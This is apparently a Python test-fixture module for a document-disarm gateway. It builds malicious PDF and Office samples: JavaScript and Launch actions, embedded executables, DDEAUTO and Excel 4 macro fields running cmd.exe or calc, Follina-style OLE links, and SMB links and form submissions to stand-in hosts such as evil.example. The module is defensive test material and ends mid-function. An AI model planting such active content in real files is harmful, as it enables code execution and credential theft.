"""Documents with active content, built in the tests (pikepdf and zipfile):
the classes of attack gateway/disarm must take out, and clean documents it
must leave alone.  Shared by tests/test_disarm.py and bench/disarm.py."""
from __future__ import annotations

import binascii
import io
import os
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String


# A Windows program's first bytes: what the embedded "setup.exe" holds.
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"PE\x00\x00" + b"\x00" * 64


def _save(pdf: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def clean_pdf(pages: int = 1, payload: int = 0) -> bytes:
    """A plain PDF with text on each page, and ``payload`` random bytes in
    an image-like stream (to make it a given size)."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for n in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
        page = pdf.pages[-1]
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        page.Contents = pdf.make_stream(f"BT /F1 24 Tf 72 720 Td (Invoice page {n + 1}) Tj ET".encode())
        page.Annots = Array([pdf.make_indirect(Dictionary(
            Type=Name.Annot, Subtype=Name.Link, Rect=[72, 700, 300, 730], Border=[0, 0, 0],
            A=Dictionary(S=Name.URI, URI=String("https://example.com/pay"))))])
    if payload:
        image = pdf.make_stream(os.urandom(payload), Type=Name.XObject, Subtype=Name.Image, Width=payload // 3 or 1,
                                Height=1, ColorSpace=Name.DeviceRGB, BitsPerComponent=8)
        pdf.pages[0].Resources.XObject = Dictionary(Im1=image)
    return _save(pdf)


def _js(code: str) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def pdf_open_action_js() -> bytes:
    """A catalogue /OpenAction that runs JavaScript, and a names-tree script."""
    pdf = pikepdf.open(io.BytesIO(clean_pdf()))
    pdf.Root.OpenAction = pdf.make_indirect(_js("app.alert('pwned')"))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), pdf.make_indirect(_js("x()"))])))
    return _save(pdf)


def pdf_launch() -> bytes:
    """A page-open (/AA /O) action that launches cmd.exe, chained after a
    harmless GoTo (the /Next of an action)."""
    pdf = pikepdf.open(io.BytesIO(clean_pdf()))
    launch = Dictionary(S=Name.Launch, Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")))
    page = pdf.pages[0].obj
    page.AA = Dictionary(O=Dictionary(S=Name.GoTo, D=Array([page, Name.Fit]), Next=launch))
    pdf.Root.AA = Dictionary(WC=Dictionary(S=Name.Launch, F=String("\\\\evil\\share\\x.exe")))
    return _save(pdf)


def _filespec(pdf: pikepdf.Pdf, name: str, data: bytes) -> pikepdf.Object:
    # Compressed, as real files are.
    stream = pdf.make_stream(zlib.compress(data), Type=Name.EmbeddedFile, Filter=Name.FlateDecode,
                             Params=Dictionary(Size=len(data)))
    return pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String(name), UF=String(name), EF=Dictionary(F=stream)))


def pdf_embedded_exe() -> bytes:
    """setup.exe in the /EmbeddedFiles name tree, opened by an /OpenAction
    script (the issue's "invoice.pdf")."""
    pdf = pikepdf.open(io.BytesIO(clean_pdf()))
    spec = _filespec(pdf, "setup.exe", EXE)
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("setup.exe"), spec])))
    pdf.Root.OpenAction = _js("this.exportDataObject({cName: 'setup.exe', nLaunch: 2});")
    return _save(pdf)


def pdf_embedded_pdf(inner: bytes, name: str = "terms.pdf") -> bytes:
    """A clean PDF carrying another PDF (``inner``) as an embedded file,
    as a portfolio does."""
    pdf = pikepdf.open(io.BytesIO(clean_pdf()))
    spec = _filespec(pdf, name, inner)
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String(name), spec])))
    return _save(pdf)


def pdf_file_attachment() -> bytes:
    """A /FileAttachment annotation on the page carrying tool.exe."""
    pdf = pikepdf.open(io.BytesIO(clean_pdf()))
    spec = _filespec(pdf, "tool.exe", EXE + b"tool")
    annot = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[10, 10, 30, 30],
                                         FS=spec, Name=Name.PushPin))
    pdf.pages[0].obj.Annots.append(annot)
    return _save(pdf)


def pdf_form_js() -> bytes:
    """An AcroForm text field whose widget runs JavaScript on focus (/AA /Fo),
    format and calculate scripts, a submit button to an outside URL, an XFA
    packet, and a RichMedia annotation."""
    pdf = pikepdf.open(io.BytesIO(clean_pdf()))
    page = pdf.pages[0].obj
    field = pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("amount"), Rect=[72, 600, 300, 620], P=page,
        AA=Dictionary(Fo=_js("app.launchURL('http://evil.example/')"), K=_js("event.rc = true"),
                      C=_js("event.value = 1"))))
    button = pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, Ff=65536, T=String("send"), Rect=[72, 560, 150, 580],
        P=page, A=Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://evil.example/collect")))))
    rich = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 10, 10]))
    page.Annots.extend([field, button, rich])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field, button]), XFA=pdf.make_stream(b"<xdp:xdp/>"))
    return _save(pdf)


# ---------------------------------------------------------------------------
# Office Open XML.

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
_CT = "http://schemas.openxmlformats.org/package/2006/content-types"
_DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
XLSM_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"


def _package(parts: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, body in parts.items():
            z.writestr(name, body)
    return out.getvalue()


def _types(main_part: str, main_type: str, defaults: str = "", overrides: str = "") -> str:
    return (_DECL + f'<Types xmlns="{_CT}">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>' + defaults +
            f'<Override PartName="/{main_part}" ContentType="{main_type}"/>' + overrides + '</Types>')


def _rels(*rels: tuple[str, str, str, bool]) -> str:
    """A relationships part from (Id, type suffix, target, external)."""
    body = "".join(f'<Relationship Id="{i}" Type="{_REL}/{t}" Target="{target}"'
                   + (' TargetMode="External"' if ext else "") + "/>" for i, t, target, ext in rels)
    return _DECL + f'<Relationships xmlns="{_PKG_REL}">{body}</Relationships>'


_ROOT_RELS = _rels(("rId1", "officeDocument", "word/document.xml", False))


def _document(body: str, extra_ns: str = "") -> str:
    return (_DECL + f'<w:document xmlns:w="{_W}" xmlns:r="{_R}" xmlns:o="urn:schemas-microsoft-com:office:office" '
            f'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" '
            f'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" mc:Ignorable="w14"{extra_ns}>'
            f'<w:body><w:p><w:r><w:t>Contract</w:t></w:r></w:p>{body}</w:body></w:document>')


def clean_docx() -> bytes:
    """A Word document with a paragraph, a web hyperlink (external, kept) and settings."""
    return _package({
        "[Content_Types].xml": _types("word/document.xml", DOCX_MAIN, overrides=(
            '<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'wordprocessingml.settings+xml"/>')),
        "_rels/.rels": _ROOT_RELS,
        "word/_rels/document.xml.rels": _rels(("rId1", "settings", "settings.xml", False),
                                              ("rId2", "hyperlink", "https://example.com/", True)),
        "word/document.xml": _document('<w:p><w:hyperlink r:id="rId2"><w:r><w:t>site</w:t></w:r></w:hyperlink></w:p>'),
        "word/settings.xml": _DECL + f'<w:settings xmlns:w="{_W}" xmlns:r="{_R}"><w:zoom w:percent="100"/></w:settings>',
    })


def docx_remote_template() -> bytes:
    """settings.xml attaches a template fetched from the internet (remote
    template injection)."""
    return _package({
        "[Content_Types].xml": _types("word/document.xml", DOCX_MAIN, overrides=(
            '<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'wordprocessingml.settings+xml"/>')),
        "_rels/.rels": _ROOT_RELS,
        "word/_rels/document.xml.rels": _rels(("rId1", "settings", "settings.xml", False)),
        "word/document.xml": _document(""),
        "word/settings.xml": _DECL + f'<w:settings xmlns:w="{_W}" xmlns:r="{_R}"><w:zoom w:percent="100"/>'
                                     '<w:attachedTemplate r:id="rId1"/></w:settings>',
        "word/_rels/settings.xml.rels": _rels(("rId1", "attachedTemplate", "http://evil.example/t.dotm", True)),
    })


def docx_external_ole() -> bytes:
    """An OLE object linked from outside the package (the "Follina" shape:
    an mhtml: target)."""
    obj = ('<w:p><w:r><w:object><v:shape id="_x0000_i1025" style="width:1pt;height:1pt"/>'
           '<o:OLEObject Type="Link" ProgID="htmlfile" ShapeID="_x0000_i1025" r:id="rId9" UpdateMode="OnCall"/>'
           '</w:object></w:r></w:p>')
    return _package({
        "[Content_Types].xml": _types("word/document.xml", DOCX_MAIN),
        "_rels/.rels": _ROOT_RELS,
        "word/_rels/document.xml.rels": _rels(("rId9", "oleObject", "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html", True)),
        "word/document.xml": _document(obj),
    })


def docx_dde() -> bytes:
    """A DDEAUTO field as a complex field (split over two runs) and a DDE
    field as a simple field."""
    body = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>'
            '<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Total</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            '<w:p><w:fldSimple w:instr=" DDE &quot;cmd&quot; &quot;/c notepad&quot; "><w:r><w:t>Sum</w:t></w:r>'
            '</w:fldSimple></w:p>'
            # A harmless field that must stay.
            '<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>')
    return _package({
        "[Content_Types].xml": _types("word/document.xml", DOCX_MAIN),
        "_rels/.rels": _ROOT_RELS,
        "word/document.xml": _document(body),
    })


def vba_project() -> bytes:
    """A stand-in VBA project: an OLE compound file (only its presence counts)."""
    return ole_file({"VBA/dir": b"\x01\x00", "PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\n'})


def docm_macro() -> bytes:
    """A Word document with a VBA project and the macro-enabled content type."""
    return _package({
        "[Content_Types].xml": _types("word/document.xml", DOCM_MAIN,
                                      defaults='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
                                      overrides='<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>'),
        "_rels/.rels": _ROOT_RELS,
        "word/_rels/document.xml.rels": (
            _DECL + f'<Relationships xmlns="{_PKG_REL}">'
            '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
            'Target="vbaProject.bin"/></Relationships>'),
        "word/document.xml": _document(""),
        "word/vbaProject.bin": vba_project(),
        "word/_rels/vbaProject.bin.rels": (
            _DECL + f'<Relationships xmlns="{_PKG_REL}">'
            '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/wordVbaData" '
            'Target="vbaData.xml"/></Relationships>'),
        "word/vbaData.xml": _DECL + '<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>',
    })


def xlsm_macro() -> bytes:
    """An Excel workbook with a VBA project and the macro-enabled content type."""
    ws = ('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
          '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Total</t></is></c></row></sheetData></worksheet>')
    wb = ('<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
          f'xmlns:r="{_R}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>')
    return _package({
        "[Content_Types].xml": _types("xl/workbook.xml", XLSM_MAIN, overrides=(
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.spreadsheetml.worksheet+xml"/>'
            '<Override PartName="/xl/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>')),
        "_rels/.rels": _rels(("rId1", "officeDocument", "xl/workbook.xml", False)),
        "xl/_rels/workbook.xml.rels": (
            _DECL + f'<Relationships xmlns="{_PKG_REL}">'
            f'<Relationship Id="rId1" Type="{_REL}/worksheet" Target="worksheets/sheet1.xml"/>'
            '<Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
            'Target="vbaProject.bin"/></Relationships>'),
        "xl/workbook.xml": _DECL + wb,
        "xl/worksheets/sheet1.xml": _DECL + ws,
        "xl/vbaProject.bin": vba_project(),
    })


def xlsx_macro_sheet_renamed(by: str) -> bytes:
    """An Excel workbook whose second sheet is an Excel 4 macro sheet with
    an Auto_Open name, kept among the worksheets (not in xl/macrosheets/):
    a macro sheet ``by`` its content type or by its relationship's type."""
    ws = ('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
          '<sheetData/></worksheet>')
    macro = ('<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
             '<sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>')
    wb = ('<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
          f'xmlns:r="{_R}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/>'
          '<sheet name="Macro1" sheetId="2" r:id="rId2"/></sheets>'
          '<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames></workbook>')
    sheet_type = ("application/vnd.ms-excel.macrosheet+xml" if by == "content type" else
                  "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml")
    rel_type = ("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" if by == "relationship"
                else f"{_REL}/worksheet")
    return _package({
        "[Content_Types].xml": _types("xl/workbook.xml", XLSX_MAIN, overrides=(
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.spreadsheetml.worksheet+xml"/>'
            f'<Override PartName="/xl/worksheets/sheet2.xml" ContentType="{sheet_type}"/>')),
        "_rels/.rels": _rels(("rId1", "officeDocument", "xl/workbook.xml", False)),
        "xl/_rels/workbook.xml.rels": (
            _DECL + f'<Relationships xmlns="{_PKG_REL}">'
            f'<Relationship Id="rId1" Type="{_REL}/worksheet" Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="rId2" Type="{rel_type}" Target="worksheets/sheet2.xml"/></Relationships>'),
        "xl/workbook.xml": _DECL + wb,
        "xl/worksheets/sheet1.xml": _DECL + ws,
        "xl/worksheets/sheet2.xml": _DECL + macro,
    })


def docx_altchunk_rtf() -> bytes:
    """A Word document that imports an RTF chunk (altChunk) holding an
    embedded OLE package of a program: Word brings the object in on open."""
    rtf = (b"{\\rtf1{\\object\\objemb{\\*\\objclass Package}\\objw1\\objh1{\\*\\objdata "
           + binascii.hexlify(ole10native("payload.exe", EXE)) + b"}}}")
    return _package({
        "[Content_Types].xml": _types("word/document.xml", DOCX_MAIN,
                                      defaults='<Default Extension="rtf" ContentType="application/rtf"/>'),
        "_rels/.rels": _ROOT_RELS,
        "word/_rels/document.xml.rels": _rels(("rId5", "aFChunk", "afchunk.rtf", False)),
        "word/document.xml": _document('<w:altChunk r:id="rId5"/>'),
        "word/afchunk.rtf": rtf,
    })


def docx_remote_fields() -> bytes:
    """A Word document whose fields fetch a picture from an SMB share (the
    agent's Windows credentials go with the request) and text from the web;
    a hyperlink field whose tooltip says "link" beside them is harmless."""
    return _package({
        "[Content_Types].xml": _types("word/document.xml", DOCX_MAIN),
        "_rels/.rels": _ROOT_RELS,
        "word/document.xml": _document(
            '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;\\\\198.51.100.7\\share\\a.png&quot; \\d ">'
            '<w:r><w:t>picture</w:t></w:r></w:fldSimple></w:p>'
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDETEXT '
            '&quot;http://evil.example/x.docx&quot; </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/>'
            '</w:r><w:r><w:t>text</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            '<w:p><w:fldSimple w:instr=" IMPORT &quot;\\\\198.51.100.7\\share\\b.wmf&quot; ">'
            '<w:r><w:t>import</w:t></w:r></w:fldSimple></w:p>'
            '<w:p><w:fldSimple w:instr=" HYPERLINK &quot;https://example.com/&quot; \\o &quot;link&quot; ">'
            '<w:r><w:t>site</w:t></w:r></w:fldSimple></w:p>'),
    })


SHARE = "198.51.100.7"


def docx_file_links() -> bytes:
    """A Word document whose links open files, not web pages: a hyperlink
    to a program on an SMB share (a click hands over the agent's Windows
    credentials and runs it), one to a search-ms: view of that share (the
    2022 lure), a HYPERLINK field to a shortcut there; and, kept, a web
    link beside them."""
    return _package({
        "[Content_Types].xml": _types("word/document.xml", DOCX_MAIN),
        "_rels/.rels": _ROOT_RELS,
        "word/_rels/document.xml.rels": _rels(
            ("rId2", "hyperlink", f"file://{SHARE}/share/invoice.exe", True),
            ("rId3", "hyperlink", f"search-ms:query=invoice&amp;crumb=location:\\\\{SHARE}\\share", True),
            ("rId4", "hyperlink", "https://example.com/pay", True)),
        "word/document.xml": _document(
            '<w:p><w:hyperlink r:id="rId2"><w:r><w:t>Open the invoice</w:t></w:r></w:hyperlink></w:p>'
            '<w:p><w:hyperlink r:id="rId3"><w:r><w:t>Find your documents</w:t></w:r></w:hyperlink></w:p>'
            f'<w:p><w:fldSimple w:instr=" HYPERLINK &quot;\\\\\\\\{SHARE}\\\\share\\\\statement.lnk&quot; \\o &quot;'
            'statement&quot; "><w:r><w:t>Your statement</w:t></w:r></w:fldSimple></w:p>'
            # A HYPERLINK whose target a nested QUOTE field spells in character codes.
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> HYPERLINK '
            '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
            ' QUOTE 92 92 49 57 56 46 53 49 46 49 48 48 46 55 92 115 92 120 46 108 110 107 </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            '<w:r><w:t>Your receipt</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            '<w:p><w:hyperlink r:id="rId4"><w:r><w:t>Pay online</w:t></w:r></w:hyperlink></w:p>'),
    })


def pdf_thread_to_share() -> bytes:
    """A PDF whose open action follows an article thread into a PDF on an
    SMB share: the reader opens that file, as for /GoToR."""
    pdf = pikepdf.open(io.BytesIO(clean_pdf()))
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=Name.Thread, F=String(f"\\\\{SHARE}\\share\\x.pdf"),
                                                       D=0))
    return _save(pdf)


def xlsx_data_connections() -> bytes:
    """A workbook whose data connections (a web query and an OLE DB source
    on an SMB path) refresh when it opens."""
    ws = ('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/></worksheet>')
    wb = ('<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
          f'xmlns:r="{_R}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>')
    connections = ('<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                   '<connection id="1" name="web" type="4" refreshOnLoad="1">'
                   '<webPr url="http://evil.example/q"/></connection>'
                   '<connection id="2" name="db" type="1" refreshOnLoad="1">'
                   '<dbPr connection="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\198.51.100.7\\s\\d.accdb" '
                   'command="t"/></connection></connections>')
    return _package({
        "[Content_Types].xml": _types("xl/workbook.xml", XLSX_MAIN, overrides=(
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.spreadsheetml.worksheet+xml"/>'
            '<Override PartName="/xl/connections.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.spreadsheetml.connections+xml"/>')),
        "_rels/.rels": _rels(("rId1", "officeDocument", "xl/workbook.xml", False)),
        "xl/_rels/workbook.xml.rels": (
            _DECL + f'<Relationships xmlns="{_PKG_REL}">'
            f'<Relationship Id="rId1" Type="{_REL}/worksheet" Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="rId2" Type="{_REL}/connections" Target="connections.xml"/></Relationships>'),
        "xl/workbook.xml": _DECL + wb,
        "xl/worksheets/sheet1.xml": _DECL + ws,
        "xl/connections.xml": _DECL + connections,
    })


def ole_file(streams: dict[str, bytes]) -> bytes:
    """A minimal OLE compound file (version 3, 512-byte sectors) holding the
    given streams at the root (names with one "/" make one storage level),
    each padded to 4096 bytes so every stream lives in regular sectors."""
    sector = 512
    entries: list[tuple[str, int, bytes]] = [("Root Entry", 5, b"")]  # (name, type, data)
    storages: dict[str, int] = {}
    children: dict[int, list[int]] = {0: []}
    for path, data in streams.items():
        parent = 0
        *dirs, leaf = path.split("/")
        for d in dirs:
            if d not in storages:
                entries.append((d, 1, b""))
                storages[d] = len(entries) - 1
                children[storages[d]] = []
                children[parent].append(storages[d])
            parent = storages[d]
        entries.append((leaf, 2, data.ljust(4096, b"\x00")))
        children[parent].append(len(entries) - 1)
    # Lay out stream data in sectors after the directory.
    dir_sectors = (len(entries) * 128 + sector - 1) // sector
    data_start = 1 + dir_sectors  # sector 0 is the FAT
    starts, next_free, body = {}, data_start, b""
    for i, (_, kind, data) in enumerate(entries):
        if kind == 2:
            starts[i] = next_free
            n = len(data) // sector
            next_free += n
            body += data
    total = next_free
    if total > 128:
        raise ValueError("too big for one FAT sector")
    fat = [0xFFFFFFFF] * 128
    fat[0] = 0xFFFFFFFD  # FAT sector
    for s in range(1, data_start):
        fat[s] = s + 1 if s + 1 < data_start else 0xFFFFFFFE
    for i, (_, kind, data) in enumerate(entries):
        if kind == 2:
            n = len(data) // sector
            for k in range(n):
                fat[starts[i] + k] = starts[i] + k + 1 if k + 1 < n else 0xFFFFFFFE
    # Directory: children of each storage chained as a degenerate red-black tree via right siblings.
    left, right, child = {}, {}, {}
    for parent, kids in children.items():
        kids = sorted(kids, key=lambda i: (len(entries[i][0]), entries[i][0].upper()))
        if kids:
            child[parent] = kids[0]
            for a, b in zip(kids, kids[1:]):
                right[a] = b
    directory = b""
    for i, (name, kind, data) in enumerate(entries):
        encoded = (name + "\x00").encode("utf-16-le")
        directory += struct.pack("<64sHBBIII16sIQQIII", encoded, len(encoded), kind, 1,
                                 left.get(i, 0xFFFFFFFF), right.get(i, 0xFFFFFFFF), child.get(i, 0xFFFFFFFF),
                                 b"\x00" * 16, 0, 0, 0, starts.get(i, 0xFFFFFFFE if kind != 2 else 0),
                                 len(data) if kind == 2 else 0, 0)
    directory = directory.ljust(dir_sectors * sector, b"\x00")
    header = struct.pack("<8s16sHHHHH6sIIIIIIIII", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"\x00" * 16, 0x3E, 3,
                         0xFFFE, 9, 6, b"\x00" * 6, 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    header += struct.pack("<I", 0) + struct.pack("<108I", *([0xFFFFFFFF] * 108))
    fat_sector = struct.pack("<128I", *fat)
    return header + fat_sector + directory + body


def ole10native(filename: str, data: bytes) -> bytes:
    """The \\x01Ole10Native stream of an OLE Package object holding ``data`` as ``filename``."""
    name = filename.encode("latin-1") + b"\x00"
    path = b"C:\\Users\\x\\" + name
    inner = (struct.pack("<H", 2) + name + path + struct.pack("<HH", 0, 3) + struct.pack("<I", len(path)) + path
             + struct.pack("<I", len(data)) + data)
    return struct.pack("<I", len(inner)) + inner


def docx_embedded_package() -> bytes:
    """An embedded OLE Package object (word/embeddings/oleObject1.bin) holding payload.exe."""
    obj = ('<w:p><w:r><w:object><v:shape id="_x0000_i1025" style="width:1pt;height:1pt"/>'
           '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" r:id="rId7"/>'
           '</w:object></w:r></w:p>')
    return _package({
        "[Content_Types].xml": _types("word/document.xml", DOCX_MAIN, defaults=(
            '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>')),
        "_rels/.rels": _ROOT_RELS,
        "word/_rels/document.xml.rels": _rels(("rId7", "oleObject", "embeddings/oleObject1.bin", False)),
        "word/document.xml": _document(obj),
        "word/embeddings/oleObject1.bin": ole_file({"\x01Ole10Native": ole10native("payload.exe", EXE)}),
    })


_OLE_OBJECT = ('<w:p><w:r><w:object><v:shape id="_x0000_i1025" style="width:1pt;height:1pt"/>'
               '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" r:id="rId7"/>'
               '</w:object></w:r></w:p>')
_BIN_DEFAULT = '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
CHART_TYPE = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"


def docx_package_in_charts_folder() -> bytes:
    """The embedded OLE Package with payload.exe of docx_embedded_package,
    but the main document lies under word/charts/ (Word opens it wherever
    _rels/.rels points): no chart, only a chart's folder."""
    return _package({
        "[Content_Types].xml": _types("word/charts/document.xml", DOCX_MAIN, defaults=_BIN_DEFAULT),
        "_rels/.rels": _rels(("rId1", "officeDocument", "word/charts/document.xml", False)),
        "word/charts/_rels/document.xml.rels": _rels(("rId7", "oleObject", "../embeddings/oleObject1.bin", False)),
        "word/charts/document.xml": _document(_OLE_OBJECT),
        "word/embeddings/oleObject1.bin": ole_file({"\x01Ole10Native": ole10native("payload.exe", EXE)}),
    })


def docx_chart(data: bytes, kind: str = "package", name: str = "Microsoft_Excel_Worksheet.xlsx") -> bytes:
    """A Word document with a chart whose data (``externalData``) is
    ``data``, embedded by a ``kind`` relationship as word/embeddings/``name``."""
    chart = (_DECL + '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" '
             f'xmlns:r="{_R}"><c:chart/><c:externalData r:id="rId1"/></c:chartSpace>')
    return _package({
        "[Content_Types].xml": _types("word/document.xml", DOCX_MAIN, defaults=(
            _BIN_DEFAULT + '<Default Extension="xlsx" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/>'),
            overrides=f'<Override PartName="/word/charts/chart1.xml" ContentType="{CHART_TYPE}"/>'),
        "_rels/.rels": _ROOT_RELS,
        "word/_rels/document.xml.rels": _rels(("rId5", "chart", "charts/chart1.xml", False)),
        "word/document.xml": _document(""),
        "word/charts/chart1.xml": chart,
        "word/charts/_rels/chart1.xml.rels": _rels(("rId1", kind, f"../embeddings/{name}", False)),
        f"word/embeddings/{name}": data,
    })


def clean_xlsx() -> bytes:
    """A workbook with one empty sheet."""
    return _package({
        "[Content_Types].xml": _types("xl/workbook.xml", XLSX_MAIN, overrides=(
            '<Override PartName="/xl/worksheets/sheet1.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>')),
        "_rels/.rels": _rels(("rId1", "officeDocument", "xl/workbook.xml", False)),
        "xl/_rels/workbook.xml.rels": _rels(("rId1", "worksheet", "worksheets/sheet1.xml", False)),
        "xl/workbook.xml": _DECL + '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                           f'xmlns:r="{_R}"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/worksheets/sheet1.xml": _DECL + '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
                                    '2006/main"><sheetData/></worksheet>',
    })


# A DDEAUTO field and a picture fetched from a network share (the agent's
# Windows credentials go with the request), as docx_dde and the fields of
# docx_remote_fields write them.
DDE_BODY = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            '<w:p><w:fldSimple w:instr=\' INCLUDEPICTURE "\\\\evil.example\\s\\a.png" \\d \'>'
            '<w:r><w:t>p</w:t></w:r></w:fldSimple></w:p>')


def docx_main_part_in(folder: str, body: str = DDE_BODY) -> bytes:
    """A Word document whose main part lies in ``folder`` (docProps/,
    customXml/: folders any package may have), holding ``body``."""
    main = f"{folder}/document.xml"
    return _package({
